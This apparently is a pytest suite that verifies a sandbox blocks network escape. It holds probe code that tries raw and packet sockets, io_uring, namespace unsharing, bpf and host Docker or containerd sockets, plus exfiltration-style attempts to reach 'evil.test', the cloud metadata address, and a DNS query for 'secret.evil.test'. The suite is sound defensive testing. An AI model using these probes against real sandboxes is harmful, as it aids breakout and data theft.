"""What has no way out at all: every protocol that is not TCP or a question for a name.

The kernel refuses it at once and counts it; programs that know of no proxy are no different.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from .world.boxes import Box, WorldDaemon, eventually
from .world.everything import World

REFUSED = {"EPERM", "ENETUNREACH", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT", "ENETDOWN"}
REFUSED |= {"EADDRNOTAVAIL", "ESOCKTNOSUPPORT", "EINVAL", "ENOSYS", "EHOSTUNREACH", "EPROTOTYPE"}
# Straight to the kernel: no libc function that reads a variable, no interpreter.
CLIENT = r"""
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int count, char **words) {
    if (count != 4) return 2;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(words[2]))};
    inet_pton(AF_INET, words[1], &to.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof to)) { perror("connect"); return 1; }
    if (write(s, words[3], strlen(words[3])) < 0) { perror("write"); return 1; }
    char data[4096];
    ssize_t size = read(s, data, sizeof data);
    if (size < 0) { perror("read"); return 1; }
    return size && write(1, data, size) == size ? 0 : 3;
}
"""


def _seen(world: World) -> tuple[int, ...]:
    return tuple(len(listener.visits) for listener in world.listeners)


def test_other_protocols_are_refused_at_once_and_counted(box: Box, world: World) -> None:
    before, counted = _seen(world), box.refusals()
    found = box.probe(
        """
I, S, D = socket.AF_INET, socket.AF_INET6, socket.SOCK_DGRAM
def sctp():
    with socket.socket(I, socket.SOCK_STREAM, 132) as s:
        s.settimeout(2)
        s.connect(('8.8.8.8', 80))
def opened(*words):
    with socket.socket(*words): return 'opened'
def ping():
    with socket.socket(I, D, socket.IPPROTO_ICMP) as s:
        s.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', ('8.8.8.8', 0))
        return 'sent'
def attempt(f, *a):
    try: return f(*a) or 'ok'
    except OSError as e: return name_of(e)
answer(cases=side_by_side({
    'quic': lambda: send_udp('1.1.1.1', 443),
    'ntp': lambda: send_udp('8.8.8.8', 123),
    'mdns': lambda: send_udp('224.0.0.251', 5353),
    'port 54': lambda: send_udp('8.8.8.8', 54),
    'dns over 853': lambda: send_udp('8.8.8.8', 853, data=question('secret.evil.test')),
    'synthetic': lambda: send_udp('198.18.0.1', 3128),
    'large, in fragments': lambda: send_udp('8.8.8.8', 443, data=b'x' * 60000),
    'lite': lambda: attempt(opened, I, D, 136),
    'udp 6': lambda: send_udp('2001:4860:4860::8888', 53, family=S),
    'dns 6': lambda: send_udp('fd00:ec2::254', 53, family=S),
    'tcp 6': lambda: talk('2001:db8::1', 443, 'x', family=S)['end'],
    'link-local 6': lambda: talk('fe80::1', 80, 'x', family=S)['end'],
    'sctp': lambda: attempt(sctp),
    'dccp': lambda: attempt(opened, I, 6, 33),
    'raw': lambda: attempt(opened, I, socket.SOCK_RAW, 1),
    'raw ip': lambda: attempt(opened, I, socket.SOCK_RAW, 255),
    'raw 6': lambda: attempt(opened, S, socket.SOCK_RAW, 58),
    'packet': lambda: attempt(opened, 17, socket.SOCK_RAW, 0x300),
    'packet, datagrams': lambda: attempt(opened, 17, D, 0x300),
    'vsock': lambda: attempt(opened, 40, socket.SOCK_STREAM, 0),
    'netfilter': lambda: attempt(opened, 16, socket.SOCK_RAW, 12),
    'xdp': lambda: attempt(opened, 44, socket.SOCK_RAW, 0),
    'bluetooth': lambda: attempt(opened, 31, socket.SOCK_RAW, 1),
    'kernel crypto': lambda: attempt(opened, 38, 5, 0),
    'ping': lambda: attempt(ping),
}))"""
    )["cases"]
    ends = {label: said["value"] for label, said in found.items()}
    assert not {label: end for label, end in ends.items() if end not in REFUSED}
    assert _seen(world) == before
    # At least the datagrams got as far as the rules.
    assert eventually(lambda: box.refusals() - counted) >= 6


def test_questions_and_connections_are_not_counted_as_refusals(box: Box, world: World) -> None:
    """Control: what is redirected passes the same rules and is not among them."""
    before = box.refusals()
    found = box.try_all(
        """{'dns': lambda: dns(question('good.test')),
        'tcp': lambda: talk('good.test', V['port'], '<echo>', until='<echo>')}""",
        port=world.recorder.port,
    )
    assert (found["dns"]["end"], found["tcp"]["got"]) == ("answer", "<echo>")
    assert box.refusals() == before


def test_ways_around_the_stack(box: Box) -> None:
    """io_uring makes sockets past a filter of system calls; the rules can't be read or changed; no
    other namespace can be entered."""
    found = box.probe(
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *words):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *words)
    return 'ok' if result >= 0 else errno.errorcode[ctypes.get_errno()]
def netlink(kind):
    with socket.socket(16, socket.SOCK_RAW, 0) as s:
        s.settimeout(2)
        s.sendto(struct.pack('=IHHIIBBBBi', 24, kind, 5 | 0x400, 1, 0, 2, 32, 0, 0, 1), (0, 0))
        return errno.errorcode.get(-struct.unpack_from('=i', s.recv(65536), 16)[0], 'ok')
def attempt(f, *a):
    try: return f(*a)
    except OSError as e: return name_of(e)
params = ctypes.create_string_buffer(120)
answer(uring=call(425, 8, params), address=attempt(netlink, 20), route=attempt(netlink, 24),
       unshare=call(272, 0x40000000), userns=call(272, 0x10000000),
       bpf=call(321, 0, None, 0), mounts=os.path.exists('/proc/1/ns/net') and
       attempt(os.readlink, '/proc/1/ns/net'))"""
    )
    assert found["uring"] in ("ENOSYS", "EPERM"), found
    for label in ("address", "route"):
        assert found[label] in ("EPERM", "EINVAL", "EACCES", "EAFNOSUPPORT"), found
    for label in ("unshare", "userns", "bpf"):
        assert found[label] in ("EPERM", "ENOSPC", "ENOSYS", "EUSERS"), found


def test_host_sockets_are_not_there(box: Box, world: World) -> None:
    """Abstract and other unix sockets of the host; what the daemon and the gateway listen on."""
    sockets = [
        *("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"),
        *("/tmp/.X11-unix/X0", str(box.daemon.state_dir / "api.sock")),
        *(str(box.daemon.state_dir / "gateway.sock"), "\0/tmp/.X11-unix/X0", "\0containerd-shim"),
    ]
    found = box.probe(
        """
def unix(path):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(2)
        try: s.connect(path)
        except OSError as e: return name_of(e)
        return 'connected'
fds = [os.readlink(f'/proc/self/fd/{n}') for n in os.listdir('/proc/self/fd') if int(n) > 2
       and os.path.exists(f'/proc/self/fd/{n}')]
answer(ends={p: unix(p) for p in V['paths']}, listed=open('/proc/net/unix').read(), fds=fds)""",
        paths=sockets,
    )
    assert set(found["ends"].values()) <= {"ENOENT", "ECONNREFUSED", "EACCES"}, found["ends"]
    assert str(box.daemon.state_dir) not in found["listed"]
    assert not [fd for fd in found["fds"] if "socket" in fd], found["fds"]
    control = Path("/proc/net/unix").read_text()
    assert "gateway.sock" in control, "control: the host has it"


@pytest.fixture(scope="module")
def static_client(tmp_path_factory: pytest.TempPathFactory) -> Path:
    compiler = shutil.which("musl-gcc")
    if compiler is None:
        pytest.skip("musl-gcc is not here, so there is no static client to try")
    place = tmp_path_factory.mktemp("static")
    (place / "client.c").write_text(CLIENT)
    words = [compiler, "-static", "-Os", "-o", str(place / "client"), str(place / "client.c")]
    subprocess.run(words, check=True, timeout=60)
    return place / "client"


def test_a_static_program_is_no_different(box: Box, world: World, static_client: Path) -> None:
    """It knows no proxy, no variable, no library; where it may go it gets, elsewhere not."""
    put = box.daemon.request(
        "PUT", f"/v1/sandboxes/{box.id}/files?path=/tmp/client", static_client.read_bytes()
    )
    assert put[0] in (200, 201, 204), put
    addresses = box.probe("answer(**{n: lookup(n)[0] for n in ('good.test', 'evil.test')})")
    before = _seen(world)

    def run(address: str, port: int, text: str) -> dict[str, object]:
        return box.shell(f"chmod +x /tmp/client; env -i /tmp/client {address} {port} '{text}'")

    good = run(addresses["good.test"], world.recorder.port, "<from a static program>")
    assert good["stdout"] == "<from a static program>", good
    after = _seen(world)
    assert sum(after) == sum(before) + 1, "control: it was there"
    for address in (addresses["evil.test"], "8.8.8.8", "169.254.169.254"):
        denied = run(address, world.recorder.port, "<from a static program>")
        assert denied["exit_code"] != 0 and denied["stdout"] == "", (address, denied)
    assert _seen(world) == after


def test_variables_decide_nothing(box: Box, world: World) -> None:
    """With the proxy's variables, without any, and with NO_PROXY=*: the same answer."""
    tries = {
        "as it is": "",
        "none": "env -i PATH=$PATH ",
        "no proxy": "env NO_PROXY='*' no_proxy='*' ",
        "another proxy": "env http_proxy=http://127.0.0.1:9 HTTP_PROXY=http://127.0.0.1:9 ",
    }
    requests = world.plain.since()
    fetch = "import sys, urllib.request as u; print(u.urlopen(sys.argv[1], timeout=8).status)"
    for label, prefix in tries.items():
        for name, fine in (("good.test", True), ("evil.test", False)):
            command = f'{prefix}{box.python} -c "{fetch}" http://{name}:{world.plain.port}/{name}'
            done = box.shell(command)
            if label == "another proxy":
                assert done["exit_code"] != 0
            else:
                assert (done["exit_code"] == 0) is fine, (label, name, done["stderr"][-300:])
                assert fine or "403" in done["stderr"]
    assert {request.path for request in requests()} == {"/good.test"}


def test_a_relay_inside_has_no_more_rights(daemon: WorldDaemon, box: Box, world: World) -> None:
    """A process that carries bytes for others goes through the same rules as they."""
    before = _seen(world)
    found = box.probe(
        """
def relay():
    while True:
        peer, _ = server.accept()
        def carry(peer=peer):
            try:
                with peer, connect('evil.test', V['port']) as out:
                    out.sendall(peer.recv(65536))
                    peer.sendall(out.recv(65536))
            except OSError: pass
        threading.Thread(target=carry, daemon=True).start()
server = socket.create_server(('127.0.0.1', 8077))
threading.Thread(target=relay, daemon=True).start()
answer(**talk('127.0.0.1', 8077, '<x>'))""",
        port=world.recorder.port,
    )
    assert found["got"] == ""
    assert _seen(world) == before
